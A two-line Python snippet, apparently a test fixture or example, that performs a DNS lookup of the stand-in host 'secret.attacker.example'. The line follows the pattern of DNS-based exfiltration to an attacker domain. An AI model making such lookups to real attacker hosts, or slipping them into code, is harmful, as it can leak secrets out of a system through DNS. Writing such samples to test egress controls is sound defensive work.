import socket
socket.getaddrinfo('secret.attacker.example', 80)
